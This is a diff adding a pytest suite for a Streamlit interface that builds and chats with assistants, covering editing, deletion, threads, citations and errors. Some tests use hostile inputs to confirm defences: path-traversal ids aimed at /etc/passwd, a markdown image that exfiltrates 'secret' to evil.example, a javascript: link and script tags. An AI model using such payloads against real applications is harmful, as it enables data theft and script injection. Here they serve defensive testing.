@@ -1,0 +1,329 @@
+"""The pages, drawn by the real script with the real library, files and models behind them."""
+
+from __future__ import annotations
+
+import threading
+from pathlib import Path
+
+import pytest
+from streamlit.testing.v1 import AppTest
+
+from gptsmith.agent.events import Reply
+from gptsmith.agent.runtime.store import Message
+from gptsmith.ui.web.desk import open_desk
+from gptsmith.ui.web.uploads import Upload
+from tests.loopback import Loopback, status, trickle
+
+SCRIPT = Path(__file__).parents[1] / "gptsmith" / "ui" / "web" / "app.py"
+NIGHT_SKY = """schema: assistant/v1
+name: Night sky
+description: A patient guide to the stars for children.
+instructions: Explain with small words. End every answer with a question.
+conversation_starters:
+  - What is a comet?
+"""
+
+
+@pytest.fixture
+def library(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A library with one assistant of the person's own; returns the folder of its specs."""
+    monkeypatch.setenv("GPTSMITH_HOME", str(tmp_path / "home"))
+    specs = tmp_path / "lib" / "assistants" / "specs"
+    specs.mkdir(parents=True)
+    (specs / "night-sky.assistant.yaml").write_text(NIGHT_SKY)
+    monkeypatch.chdir(tmp_path / "lib")
+    return specs
+
+
+def open_page(**where: str) -> AppTest:
+    """Run the script at an address."""
+    at = AppTest.from_file(str(SCRIPT), default_timeout=60)
+    for key, value in where.items():
+        at.query_params[key] = value
+    return at.run()
+
+
+def words(at: AppTest) -> str:
+    """Everything that the page says."""
+    assert not at.exception, at.exception
+    drawn = [
+        *at.title,
+        *at.header,
+        *at.subheader,
+        *at.markdown,
+        *at.caption,
+        *at.error,
+        *at.warning,
+        *at.info,
+        *at.success,
+    ]
+    return "\n".join(str(element.value) for element in drawn)
+
+
+def test_gallery_shows_own_and_shipped_assistants(library: Path) -> None:
+    at = open_page()
+    said = words(at)
+    for name in (
+        "Night sky",
+        "What is a comet?",
+        "Generative AI tutor",
+        "Museum guide",
+        "Support desk",
+        "Recipe helper",
+    ):
+        assert name in said
+    keys = {button.key for button in at.button}
+    assert {"open-night-sky", "edit-night-sky", "delete-night-sky", "open-support-desk"} <= keys
+    assert "delete-support-desk" not in keys
+
+
+def test_an_empty_library_says_what_to_do(library: Path) -> None:
+    (library / "night-sky.assistant.yaml").unlink()
+    assert "Say in plain words what an assistant should do" in words(open_page())
+
+
+def test_delete_asks_first(library: Path) -> None:
+    at = open_page()
+    at.button(key="delete-night-sky").click().run()
+    assert (library / "night-sky.assistant.yaml").exists()
+    at.button(key="confirm-delete").click().run()
+    assert not (library / "night-sky.assistant.yaml").exists()
+    assert "Night sky" not in words(at)
+
+
+def test_a_broken_file_can_be_repaired(library: Path) -> None:
+    file = library / "night-sky.assistant.yaml"
+    file.write_text(NIGHT_SKY.replace("instructions:", "instructons:"))
+    at = open_page()
+    assert "The file has a problem and cannot be opened." in words(at)
+    at.button(key="edit-night-sky").click().run()
+    assert "line 4, column 1" in words(at)
+    assert at.button(key="save").disabled
+    at.text_area(key="yaml-night-sky").set_value(NIGHT_SKY).run()
+    assert "The spec is valid." in words(at)
+    at.button(key="save").click().run()
+    assert file.read_text() == NIGHT_SKY
+
+
+def test_errors_stand_at_their_lines_and_nothing_is_saved(library: Path) -> None:
+    at = open_page(page="edit", assistant="night-sky")
+    at.text_area(key="yaml-night-sky").set_value(NIGHT_SKY + "limits: {max_iterations: 99}\n").run()
+    assert "line 7, column 26" in words(at)
+    assert any("▸    7  limits: {max_iterations: 99}" in code.value for code in at.code)
+    assert at.button(key="save").disabled
+
+
+def test_saving_never_overwrites_a_change_made_elsewhere(library: Path) -> None:
+    file = library / "night-sky.assistant.yaml"
+    at = open_page(page="edit", assistant="night-sky")
+    at.text_area(key="yaml-night-sky").set_value(NIGHT_SKY.replace("comet", "star")).run()
+    theirs = NIGHT_SKY.replace("comet", "moon")
+    file.write_text(theirs)
+    at.button(key="save").click().run()
+    assert "night-sky.assistant.yaml was changed outside this page since you opened it" in words(at)
+    assert file.read_text() == theirs
+    assert "star" in at.text_area(key="yaml-night-sky").value
+    at.button(key="take").click().run()
+    assert at.text_area(key="yaml-night-sky").value == theirs
+
+
+@pytest.mark.parametrize("wanted", ["../../etc/passwd", "/etc/passwd", "nobody", "", "opened:file"])
+def test_only_assistants_of_the_library_are_opened(library: Path, wanted: str) -> None:
+    at = open_page(page="edit", assistant=wanted)
+    assert len(at.error) == 1
+    assert "choose one" in at.error[0].value or "known ids" in at.error[0].value
+
+
+def test_shipped_assistants_are_read_only_and_can_be_copied(library: Path) -> None:
+    at = open_page(page="edit", assistant="support-desk")
+    assert not at.text_area
+    at.button(key="copy").click().run()
+    copy = library / "my-support-desk.assistant.yaml"
+    assert "./my-support-desk.files/" in copy.read_text()
+    assert "The spec is valid." in words(at)
+    assert at.text_area(key="yaml-my-support-desk").value == copy.read_text()
+
+
+def test_a_file_outside_the_library_is_opened_by_the_program_only(
+    library: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    file = tmp_path / "elsewhere.assistant.yaml"
+    file.write_text(NIGHT_SKY.replace("Night sky", "Elsewhere"))
+    monkeypatch.setenv("GPTSMITH_OPEN", str(file))
+    assert "Elsewhere" in words(open_page(page="gallery"))
+    assert open_page(page="edit", assistant="opened:file").text_area(key="yaml-opened:file").value == file.read_text()
+
+
+def test_the_page_says_where_the_data_is(library: Path, tmp_path: Path) -> None:
+    said = [code.value for code in open_page().code]
+    assert [str(library), str(tmp_path / "home")] == said
+
+
+# -- chat ------------------------------------------------------------------------------------------------------------
+
+LIGHTHOUSE = NIGHT_SKY.replace("Night sky", "Keeper") + (
+    "welcome_message: Welcome to {{town}}!\n"
+    "disclaimer: Times may change.\n"
+    "variables:\n  town: {description: Your town, required: true}\n"
+    "knowledge:\n  - name: pages\n    paths: [./keeper.files/light.md]\n"
+)
+PAGE = "# The light\n\nThe lighthouse was built in 1868 by Marta Sousa. It is 31 metres high.\n\nDogs stay outside.\n"
+
+
+@pytest.fixture
+def keeper(library: Path) -> Path:
+    """An assistant with a file, a required variable, a welcome and a disclaimer."""
+    (library / "keeper.files").mkdir()
+    (library / "keeper.files" / "light.md").write_text(PAGE)
+    (library / "keeper.assistant.yaml").write_text(LIGHTHOUSE)
+    return library
+
+
+def ask(at: AppTest, message: str) -> AppTest:
+    """Send a message; the run ends when the turn has."""
+    return at.chat_input(key="say").set_value(message).run()
+
+
+def test_a_conversation_is_kept_with_its_sources(library: Path) -> None:
+    at = open_page(page="chat", assistant="museum-guide")
+    assert "text stays on this computer" in words(at)
+    ask(at, "What is an enxaquetado floor?")
+    said = words(at)
+    assert "chequered composition of plain tiles" in said
+    assert ":blue-badge[1]" in said
+    assert ":green-badge[used] **museum-guide.files/collection.md**" in said
+    thread = at.query_params["thread"]
+    cite = next(button.key for button in at.button if button.key.startswith("cite-"))
+    at.button(key=cite).click().run()
+    assert ":orange-background[An enxaquetado is a chequered composition" in words(at)
+
+    again = open_page(page="chat", assistant="museum-guide", thread=thread[0] if isinstance(thread, list) else thread)
+    assert "What is an enxaquetado floor?" in words(again)
+    assert cite in {button.key for button in again.button}
+
+
+def test_a_required_variable_is_asked_for_first(keeper: Path) -> None:
+    at = open_page(page="chat", assistant="keeper")
+    assert at.chat_input(key="say").disabled
+    assert all(button.disabled for button in at.button if button.key.startswith("starter-"))
+    assert "Times may change." in words(at)
+    at.text_input(key="variable-town").set_value("Viana").run()
+    assert not at.chat_input(key="say").disabled
+    assert "Welcome to Viana!" in words(at)
+    ask(at, "Who built the lighthouse?")
+    assert "Marta Sousa" in words(at)
+    assert at.text_input(key="variable-town").disabled
+
+
+def test_threads_are_listed_renamed_and_deleted(library: Path) -> None:
+    at = open_page(page="chat", assistant="night-sky")
+    at.button(key="starter-0").click().run()
+    thread = next(button.key.removeprefix("thread-") for button in at.button if button.key.startswith("thread-"))
+    assert at.button(key=f"thread-{thread}").label == "What is a comet?"
+    at.button(key=f"more-{thread}").click().run()
+    at.text_input(key=f"title-{thread}").set_value("Comets").run()
+    at.button(key=f"more-{thread}").click().run()
+    at.text_input(key=f"title-{thread}").set_value("Comets")
+    at.button(key="rename").click().run()
+    assert at.button(key=f"thread-{thread}").label == "Comets"
+    at.button(key="new-thread").click().run()
+    assert "thread" not in at.query_params
+    at.button(key=f"more-{thread}").click().run()
+    at.button(key="delete-thread").click().run()
+    assert not [button.key for button in at.button if button.key.startswith("thread-")]
+
+
+def hosted(library: Path, server: Loopback, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Add an assistant that a model on loopback answers."""
+    monkeypatch.setenv("LOOPBACK_KEY", server.api_key)
+    model = f"{{provider: openai, name: scripted, base_url: '{server.base_url}', api_key: '${{env:LOOPBACK_KEY}}'}}"
+    (library / "slow.assistant.yaml").write_text(NIGHT_SKY + f"model: {model}\n")
+
+
+def test_a_reload_finds_the_running_turn(library: Path, loopback: Loopback, monkeypatch: pytest.MonkeyPatch) -> None:
+    hosted(library, loopback, monkeypatch)
+    loopback.always = trickle("Comets are dirty snowballs that fly around the sun.", 0.1, piece=6)
+    talk = open_desk().talk("slow")
+    thread = talk.send("What is a comet?", thread="", files=[], variables={})
+    assert talk.running(thread)
+    at = open_page(page="chat", assistant="slow", thread=thread)
+    assert "Comets are dirty snowballs that fly around the sun." in words(at)
+    assert not talk.running(thread)
+
+
+def test_stop_keeps_what_was_said(library: Path, loopback: Loopback, monkeypatch: pytest.MonkeyPatch) -> None:
+    hosted(library, loopback, monkeypatch)
+    loopback.always = trickle("one two three four five six seven eight nine ten " * 20, 0.1, piece=5)
+    talk = open_desk().talk("slow")
+    thread = talk.send("Count.", thread="", files=[], variables={})
+    threading.Timer(2, talk.stop, [talk.running(thread)]).start()
+    at = open_page(page="chat", assistant="slow", thread=thread)
+    said = words(at)
+    assert "one two" in said
+    assert "Stopped." in said
+    assert not at.chat_input(key="say").disabled
+
+
+def test_a_failing_model_is_told_and_the_message_kept(
+    library: Path, loopback: Loopback, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    hosted(library, loopback, monkeypatch)
+    loopback.always = status(401)
+    at = ask(open_page(page="chat", assistant="slow"), "Are you there?")
+    assert "Are you there?" in words(at)
+    assert len(at.error) == 1
+    loopback.always = "Here I am."
+    assert "Here I am." in words(ask(at, "And now?"))
+
+
+def test_what_a_model_writes_stays_harmless(library: Path, loopback: Loopback, monkeypatch: pytest.MonkeyPatch) -> None:
+    hosted(library, loopback, monkeypatch)
+    loopback.always = "<img src=x> ![p](http://evil.example/?d=secret) [x](javascript:alert(1))"
+    at = ask(open_page(page="chat", assistant="slow"), "<script>alert(1)</script>")
+    said = words(at)
+    assert "picture not loaded: p, from evil.example" in said
+    assert "![" not in said
+    assert "\\[x\\](javascript" in said
+    assert "\\<script\\>" in said
+    assert all(not element.allow_html for element in at.markdown)
+
+
+def test_the_page_says_where_text_goes(library: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-none")
+    assert "text is sent to api.openai.com" in words(open_page(page="create"))
+
+
+def test_files_of_a_message_are_searched_and_shown(library: Path) -> None:
+    talk = open_desk().talk("night-sky")
+    file = Upload("light.md", PAGE.encode(), "document")
+    thread = talk.send("Who built the lighthouse?", thread="", files=[file], variables={})
+    at = open_page(page="chat", assistant="night-sky", thread=thread)
+    said = words(at)
+    assert ":material/attach_file: light.md" in said
+    assert "Marta Sousa" in said
+    at.button(key=next(b.key for b in at.button if b.key.startswith("cite-"))).click().run()
+    assert ":orange-background[" in words(at)
+
+
+def test_only_the_last_messages_are_drawn(library: Path) -> None:
+    store = open_desk().talk("night-sky")._assistant.engine.store
+    for number in range(40):
+        turn = Message(turn_id=f"turn_{number}", role="user", text=f"message {number}.")
+        store.begin("long", turn, title="Long", variables={})
+        reply = Reply(thread_id="long", text=f"answer {number}.")
+        store.finish("long", turn.turn_id, status="stop", messages=[], reply=reply)
+    at = open_page(page="chat", assistant="night-sky", thread="long")
+    said = words(at)
+    assert "message 39." in said and "message 25." in said
+    assert "message 24." not in said
+    at.button(key="earlier").click().run()
+    assert "message 10." in words(at)
+
+
+def test_a_broken_spec_leads_to_its_repair(library: Path) -> None:
+    (library / "night-sky.assistant.yaml").write_text("name: x\n")
+    at = open_page(page="chat", assistant="night-sky")
+    assert not at.exception
+    assert "schema" in at.error[0].value
+    at.button(key="repair").click().run()
+    assert at.text_area(key="yaml-night-sky").value == "name: x\n"
